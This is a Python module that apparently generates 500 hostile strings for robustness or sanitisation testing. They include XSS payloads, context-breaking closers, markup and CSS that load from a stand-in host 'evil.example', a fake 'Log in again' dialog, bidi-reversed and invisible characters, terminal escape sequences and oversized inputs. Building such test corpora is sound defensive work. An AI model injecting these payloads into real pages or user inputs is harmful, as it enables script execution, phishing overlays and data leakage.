"""Five hundred texts that want to be something else on a page: script, markup, style, a turned or hidden
character, a terminal's command, an endless word; alone, and behind what would end the place they stand in."""

from collections.abc import Iterator
from itertools import chain, islice, product, zip_longest

HOSTILE = 500
# What ends a text, an attribute, an element or a comment.
ENDS = (
    "",
    "'\">",
    "</bdi></p></main>",
    "</textarea>",
    "</title></style></script>",
    "-->",
    "]]>",
    '\\";',
    "`",
    "</svg>",
)
_RUNS = "window.hacked=1"
_AWAY = "//evil.example/x"
SCRIPTS = (
    *(f"<script>{_RUNS}</script>", f"<script src={_AWAY}></script>", f"<ScRiPt >{_RUNS}</sCrIpT>"),
    *(f"<scr<script>ipt>{_RUNS}</scr</script>ipt>", f"<img src=x onerror={_RUNS}>", f"<svg/onload={_RUNS}>"),
    *(
        f"<body onpageshow={_RUNS}>",
        f"<details open ontoggle={_RUNS}>x",
        f"<input autofocus onfocus={_RUNS}>",
    ),
    *(f"<iframe srcdoc='<script>parent.{_RUNS}</script>'>", f"<a href='javascript:{_RUNS}'>x</a>"),
    *(
        f"<math><mtext><script>{_RUNS}</script></mtext></math>",
        f"<template><script>{_RUNS}</script></template>",
    ),
    *(
        f"javascript:{_RUNS}",
        f"data:text/html,<script>{_RUNS}</script>",
        f"&lt;script&gt;{_RUNS}&lt;/script&gt;",
    ),
    *(f"\\u003cscript\\u003e{_RUNS}\\u003c/script\\u003e", f"%3Cscript%3E{_RUNS}%3C/script%3E"),
    *(
        f"${{{_RUNS}}}",
        f"{{{{constructor.constructor('{_RUNS}')()}}}}",
        f"';{_RUNS};//",
        f"\u2028{_RUNS}\u2029",
    ),
    '{"__proto__": {"hacked": 1}, "constructor": {"prototype": {"hacked": 1}}}',
)
MARKUP = (
    *(
        f"<base href={_AWAY}>",
        f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
        f"<link rel=stylesheet href={_AWAY}>",
    ),
    *(
        f"<object data={_AWAY}>",
        f"<embed src={_AWAY}>",
        f"<form action={_AWAY}><button>Use it</button></form>",
    ),
    *(
        f"<img src={_AWAY}>",
        f"<video poster={_AWAY}>",
        "<dialog open>Log in again</dialog>",
        "<plaintext>",
        "<!--",
    ),
    *(
        "<table><tr><td>",
        "<marquee>",
        "<h1>Inbox</h1>",
        "<div id=app></div>",
        "<nav aria-current=page></nav>",
    ),
    *(
        "#/policy/learning",
        "../../v1/backup",
        "/v1/records?x=1&y=2#z",
        "..%2f..%2fetc",
        "[x](javascript:1)",
        f"![x](https:{_AWAY})",
    ),
)
STYLES = (
    *(
        "<style>*{display:none}</style>",
        f"<style>@import '{_AWAY}';</style>",
        "style='position:fixed;inset:0'",
    ),
    *(
        f"background:url({_AWAY})",
        "expression(alert(1))",
        "}*{font-size:99em}",
        "<p style='width:9999px'>wide</p>",
    ),
)
TURNED = tuple(
    f"pay {each}ot nimda{each} now" for each in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"
)
_UNSEEN = (
    "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u2061\u2063\u3164\uffa0\u2800\U000e0041\U000e007f\ue000"
)
HIDDEN = tuple(f"the {each}key{each} is{each}" for each in _UNSEEN)
TERMINAL = (
    *(
        "\x1b[31mred\x1b[0m",
        "\x1b[2J\x1b[H",
        f"\x1b]8;;https:{_AWAY}\x07here\x1b]8;;\x07",
        "\x1b]0;title\x07",
    ),
    *(
        "\x9b31m",
        "\x07\x08\x08\x7f",
        "over\rwritten",
        "\x1bP+q\x1b\\",
        "\x0e\x0f",
        "a\x00b",
        "line\x0bfeed\x0c",
    ),
)
GIANT = (
    *("W" * 5_000, "\u0130" * 3_000, "日" * 3_000, "-" * 2_000 + "x", "." * 4_000, "a/" * 2_000, "1" * 4_000),
    *(
        "Z" + "\u0351\u0337" * 900,
        "\ufdfd" * 400,
        "\U0001d573" * 1_000,
        "👩\u200d👩\u200d👧" * 400,
        "\n" * 500,
        "\t" * 500,
        " " * 3_000 + "x",
    ),
    *("<b>" * 1_500, "&amp;" * 1_000, "\u202e" * 700, "x\u00a0" * 2_000),
)
ODD = (
    "",
    " ",
    "0",
    "null",
    "NaN",
    "true",
    "[object Object]",
    "undefined",
    "-1e309",
    "\u00a0",
    "\\",
    "'",
    '"',
    "<",
    "&",
)


def hostile_texts() -> list[str]:
    """All of them, each kind soon: whoever takes a few of the first has some of each."""
    kinds = (SCRIPTS, MARKUP, STYLES, TURNED, HIDDEN, TERMINAL, GIANT, ODD)
    alone = _in_turn(*kinds)
    behind = (
        f"{words}{end}{text}"
        for words, (text, end) in product(
            ("", "The port is 8080 "), product([*_in_turn(*kinds[:3])], ENDS[1:])
        )
    )
    joined = (f"{one}{other}" for one, other in product((*TURNED, *HIDDEN, *TERMINAL), SCRIPTS))
    return list(islice(dict.fromkeys(chain(alone, _in_turn([*behind], [*joined]))), HOSTILE))


def _in_turn(*kinds: tuple[str, ...] | list[str]) -> Iterator[str]:
    return (text for row in zip_longest(*kinds) for text in row if text is not None)
